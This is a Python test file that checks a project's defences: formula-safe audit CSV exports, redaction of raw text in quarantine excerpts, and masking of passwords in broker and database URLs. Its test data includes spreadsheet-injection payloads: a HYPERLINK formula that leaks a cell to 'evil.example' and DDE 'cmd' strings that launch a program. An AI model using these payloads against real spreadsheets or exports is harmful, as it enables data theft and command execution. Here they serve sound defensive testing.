"""The smaller hardening of issue #27: formula-safe audit CSV, quarantine excerpts that respect
``PROVENANCE_STORE_RAW_TEXT``, and broker/database URLs masked in their query strings too."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from provenance.csv_safety import is_live_formula
from provenance.pipeline import submission
from provenance.pipeline.jobs import quarantine_records
from provenance.review import audit_csv, audit_rows
from provenance.review.accounts import add_reviewer, authenticate
from provenance.settings import Settings, mask_url_password
from provenance.store import session_scope, upgrade
from tests.conftest import install_bundle

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "=cmd|'/C calc'!A0", "\uff1dSUM(A1)"]


def test_audit_csv_has_no_live_formula_cells(tmp_path: Path) -> None:
    """Names typed into the sign-in form by someone who never signed in end up in the export as text."""
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    upgrade(url)
    add_reviewer(url, "alice", "correct horse battery")
    for index, name in enumerate(FORMULAS):
        authenticate(url, name, "whatever password", client=f"=1+{index}")
    with session_scope(url) as session:
        exported = audit_csv(audit_rows(session))
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert sum(is_live_formula(cell) for cell in cells) == 0
    subjects = {cell for cell in cells if cell.startswith("'")}
    # Nothing is lost: each typed name is there, behind the apostrophe (authenticate strips outer blanks).
    assert {"'" + name.strip() for name in FORMULAS} <= subjects
    assert is_live_formula("=1") and is_live_formula("  @x") and not is_live_formula("alice")


def test_quarantine_excerpts_keep_no_raw_text_unless_asked(tmp_path: Path, micro_model_dir: Path,
                                                         trained_bundle: Path, monkeypatch) -> None:
    monkeypatch.setattr(submission, "send_chunk", lambda _settings, _chunk_id: None)
    secret = 'Jane Smith, card 4111 1111 1111 1111, "unterminated'
    dump = tmp_path / "dump.jsonl"
    dump.write_text(json.dumps({"id": "ok", "text": "A fine paragraph about rivers."}) + "\n"
                    + '{"id": "broken", "text": "' + secret + "\n")
    excerpts = {}
    for keep in (False, True):
        home = tmp_path / f"home-{keep}"
        install_bundle(trained_bundle, home)
        url = f"sqlite:///{home / 'db.sqlite'}"
        upgrade(url)
        settings = Settings(home=home, model=str(micro_model_dir), database_url=url, store_raw_text=keep)
        job_id = submission.submit_paths(settings, [dump])
        (record,) = quarantine_records(settings, job_id)
        excerpts[keep] = record["excerpt"]
    assert "Jane" not in excerpts[False] and "4111" not in excerpts[False]
    assert excerpts[False].startswith('{"xx": "xxxxxx", "xxxx": "xxxx xxxxx, xxxx 9999 ')  # the shape stays
    assert "Jane Smith, card 4111" in excerpts[True]


@pytest.mark.parametrize(("url", "masked"), [
    ("redis://h/0?password=secret", "redis://h/0?password=***"),
    ("redis://:hunter2@h:6379/0", "redis://:***@h:6379/0"),
    ("redis://u:p/w@h/0?db=1&Password=zz#frag", "redis://u:***@h/0?db=1&Password=***#frag"),
    ("postgresql://app:pw@db/prov?sslpassword=k&sslmode=require",
     "postgresql://app:***@db/prov?sslpassword=***&sslmode=require"),
    ("redis://h/0?password=a@b", "redis://h/0?password=***"),
    ("rediss://h/0?token=abc&ssl_cert_reqs=none", "rediss://h/0?token=***&ssl_cert_reqs=none"),
    ("sqlite:////tmp/x.db", "sqlite:////tmp/x.db"),
    ("amqp://guest@h//", "amqp://guest@h//"),
])
def test_mask_url_password_hides_every_secret(url: str, masked: str) -> None:
    assert mask_url_password(url) == masked
